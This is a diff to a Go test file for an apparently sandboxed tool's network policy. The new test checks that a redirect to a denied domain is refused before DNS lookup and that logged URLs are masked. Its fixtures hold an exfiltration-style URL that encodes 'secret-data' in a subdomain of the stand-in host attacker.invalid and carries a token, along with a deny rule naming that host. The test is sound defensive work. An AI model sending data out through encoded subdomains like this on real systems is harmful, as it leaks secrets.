@@ -10,6 +10,7 @@ import (
 	"encoding/json"
 	"fmt"
 	"io"
+	"net"
 	"net/http"
 	"net/http/httptest"
 	"os"
@@ -185,14 +186,11 @@ func TestBinaryNetActions(t *testing.T) {
 	}
 }
 
-// TestBinaryDomainRuleDecidesBeforeDNS: through the real binary, a URL to
-// a host a team's policy denies by name is refused by that rule
-// (corp.domain) for each URL action, not by a failed look-up: the name is
-// never resolved before the policy decided on it, so a domain deny list
-// stops the DNS query itself. Each refusal is logged with its URL, masked;
-// a name the policy allows that does not resolve is the host's refusal
-// (host.facts), logged with its URL too.
-func TestBinaryDomainRuleDecidesBeforeDNS(t *testing.T) {
+// corpDomainPolicy is a policy folder with the default rules and a
+// team's corp.domain, which denies the URL actions to *.attacker.invalid
+// by name.
+func corpDomainPolicy(t *testing.T) string {
+	t.Helper()
 	pol := t.TempDir()
 	copyTestTree(t, filepath.Join("..", "..", "rego"), pol, func(p string) bool { return strings.HasSuffix(p, ".rego") })
 	os.WriteFile(filepath.Join(pol, "corp.rego"), []byte(`package deskbridge.policies.corp
@@ -205,6 +203,18 @@ deny contains {"code": "PERMISSION_DENIED", "rule": "corp.domain", "priority": 5
 	endswith(input.url.ascii_host, ".attacker.invalid")
 }
 `), 0o644)
+	return pol
+}
+
+// TestBinaryDomainRuleDecidesBeforeDNS: through the real binary, a URL to
+// a host a team's policy denies by name is refused by that rule
+// (corp.domain) for each URL action, not by a failed look-up: the name is
+// never resolved before the policy decided on it, so a domain deny list
+// stops the DNS query itself. Each refusal is logged with its URL, masked;
+// a name the policy allows that does not resolve is the host's refusal
+// (host.facts), logged with its URL too.
+func TestBinaryDomainRuleDecidesBeforeDNS(t *testing.T) {
+	pol := corpDomainPolicy(t)
 	cfg, ws := writeConfig(t, fmt.Sprintf(`,"policy":{"dir":%q}`, pol))
 	p := start(t, []string{"--config", cfg, origin})
 	url := "https://c2VjcmV0LWRhdGE.attacker.invalid/x.png?token=CANARY-tok"
@@ -239,5 +249,42 @@ deny contains {"code": "PERMISSION_DENIED", "rule": "corp.domain", "priority": 5
 	}
 	if b, _ := os.ReadFile(logPath); bytes.Contains(b, []byte("CANARY")) {
 		t.Error("a URL secret reached the decision log")
+	}
+}
+
+// TestBinaryRedirectHopDecidedBeforeDNS: through the real binary, a
+// download whose server redirects to a name the team's policy denies is
+// refused by that rule (corp.domain), not by a failed look-up of the name
+// (the hop is decided before any query); the hop's refusal is logged as a
+// decision of the request with the hop's URL, masked.
+func TestBinaryRedirectHopDecidedBeforeDNS(t *testing.T) {
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		_, port, _ := net.SplitHostPort(r.Host)
+		http.Redirect(w, r, "http://c2VjcmV0LWRhdGE.attacker.invalid:"+port+"/x.png?token=CANARY-hop", http.StatusFound)
+	}))
+	defer srv.Close()
+	cfg, ws := writeConfig(t, fmt.Sprintf(`,"policy":{"dir":%q},"network":{"allow_private":["127.0.0.1/32"]}`, corpDomainPolicy(t)))
+	p := start(t, []string{"--config", cfg, origin})
+	r := p.request("h1", "download_asset", `{"url":`+quoteJSON(srv.URL+"/a.png")+`,"destination":`+quoteJSON(filepath.Join(ws, "x.png"))+`}`)
+	mustCode(t, r, "h1", "PERMISSION_DENIED")
+	if r.Error.Rule != "corp.domain" {
+		t.Errorf("rule %q (%s), want the team's corp.domain", r.Error.Rule, r.Error.Message)
+	}
+	p.closeAndWait()
+	logPath := filepath.Join(filepath.Dir(cfg), "log", "decisions.jsonl")
+	out, code := runLogged(t, "log", "query", "--log", logPath, "--rule", "corp.domain")
+	if code != 0 || !strings.Contains(out, `"request_id":"h1"`) {
+		t.Errorf("the log holds no refusal of the hop by the team's rule:\n%s", out)
+	}
+	b, _ := os.ReadFile(logPath)
+	hop := false
+	for _, line := range strings.Split(string(b), "\n") {
+		hop = hop || strings.Contains(line, `"rule":"corp.domain"`) && strings.Contains(line, "attacker.invalid:") && strings.Contains(line, "/x.png?token=xxxxx")
+	}
+	if !hop || bytes.Contains(b, []byte("CANARY")) {
+		t.Errorf("the hop's refusal is not logged with its masked URL (or a secret is):\n%s", b)
+	}
+	if des, _ := os.ReadDir(ws); len(des) != 0 {
+		t.Errorf("a refused download left %d entries", len(des))
 	}
 }
